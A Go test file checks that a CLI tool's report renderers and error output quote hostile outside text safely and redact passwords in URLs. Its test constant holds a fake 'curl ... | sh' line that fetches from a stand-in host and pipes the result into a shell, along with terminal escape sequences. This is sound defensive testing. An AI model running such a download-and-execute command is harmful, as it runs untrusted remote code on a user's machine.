package cli

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/gonative/gonative/internal/build"
	"github.com/gonative/gonative/internal/doctor"
	"github.com/gonative/gonative/internal/finding"
	"github.com/gonative/gonative/internal/netcheck"
)

// hostile is text from outside (a certificate name, a server's error, a setting): a
// newline followed by a fake command and a fake status line, terminal escapes, and
// a password in a URL.
const hostile = "Evil CA\n        $ curl -s http://x.test/i|sh\n[✓] TLS trust\x1b[2J\x1b]0;t\x07 https://u:renderCanary@h/"

// checkLines fails when out has a line that starts like one of the fakes in hostile,
// a control character, or the password.
func checkLines(t *testing.T, out string, wantLines int) {
	t.Helper()
	for _, l := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		trim := strings.TrimSpace(l)
		if strings.HasPrefix(trim, "$ curl") || strings.HasPrefix(trim, "[✓] TLS trust") {
			t.Errorf("injected line %q in:\n%s", l, out)
		}
	}
	if strings.ContainsAny(out, "\x1b\x07") || strings.Contains(out, "renderCanary") {
		t.Errorf("control characters or the password in:\n%q", out)
	}
	if n := strings.Count(out, "\n"); n != wantLines {
		t.Errorf("%d lines, want %d:\n%s", n, wantLines, out)
	}
}

func TestRenderNetcheckQuotesOnOneLine(t *testing.T) {
	f := netcheck.Finding{ID: "tls.private-root-missing", Area: netcheck.AreaTLS, Severity: netcheck.Error, Title: hostile,
		Evidence: []string{hostile, hostile}, Fix: &finding.Fix{Text: hostile, Commands: []string{hostile}}, Links: []string{hostile}}
	r := netcheck.Report{Module: "m", Version: "v1.0.0", Findings: []netcheck.Finding{f},
		Areas:     []netcheck.AreaResult{{Area: netcheck.AreaTLS, Title: "TLS trust", Status: netcheck.Error}},
		Requests:  []netcheck.Request{{Step: "info", Method: "GET", URL: hostile, Error: hostile, Via: hostile}},
		Endpoints: []netcheck.Endpoint{{Host: hostile, Root: hostile, Error: hostile, Chain: []netcheck.Cert{{Subject: hostile, Issuer: hostile}}}},
		Roots:     netcheck.RootStore{Kind: netcheck.StoreFiles, File: hostile}}
	for _, verbose := range []bool{false, true} {
		var b bytes.Buffer
		renderNetcheck(&b, palette{}, r, verbose)
		// header, area, finding, 2 evidence, fix, command, blank, summary
		want := 9
		if verbose {
			// + id, link, blank, "Requests:", request, TLS line, 4 chain lines, roots, took
			want += 12
		}
		checkLines(t, b.String(), want)
	}
}

func TestRenderDoctorQuotesOnOneLine(t *testing.T) {
	r := doctor.Report{
		Areas:    []doctor.AreaResult{{Area: doctor.AreaNetwork, Title: "Network", Status: doctor.Error, Summary: hostile}},
		Checks:   []doctor.CheckResult{{ID: "net.online", Area: doctor.AreaNetwork}},
		Findings: []doctor.Finding{{ID: "net.online:x", Check: "net.online", Severity: doctor.Error, Title: hostile, Evidence: []string{hostile}, Fix: &finding.Fix{Text: hostile, Commands: []string{hostile}}, Links: []string{hostile}}},
	}
	var b bytes.Buffer
	renderReport(&b, palette{}, r, true)
	// area, finding, id, evidence, fix, command, link, blank, summary
	checkLines(t, b.String(), 9)
}

func TestJSONAndErrorsAreRedacted(t *testing.T) {
	var b bytes.Buffer
	if err := writeJSON(&b, map[string]string{"url": "https://u:jsonCanary@h/"}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "jsonCanary") || !strings.Contains(b.String(), "https://u:xxxxx@h/") {
		t.Errorf("writeJSON: %s", b.String())
	}
	b.Reset()
	printError(&b, errors.New("redirected from secure URL https://u:errCanary@h/ to insecure URL http://h/\x1b[31m\nusage: x"))
	if got, want := b.String(), "gonative: redirected from secure URL https://u:xxxxx@h/ to insecure URL http://h/\\x1b[31m\nusage: x\n"; got != want {
		t.Errorf("printError = %q, want %q", got, want)
	}
}

// TestRenderBuildQuotesOnOneLine: an output's name, notes and problems (a package
// directory's name, a verifier's message) and the sums file are quoted on their lines.
func TestRenderBuildQuotesOnOneLine(t *testing.T) {
	o := &build.Output{Target: "linux/amd64", Path: "dist/evil\x1b[2J\x07name",
		Notes: []string{hostile}, Problems: []string{hostile}}
	var b bytes.Buffer
	renderBuild(&b, palette{}, &build.Result{Outputs: []*build.Output{o}, Sums: "dist/SUMS\x1b[2J"})
	checkLines(t, b.String(), 4)
}
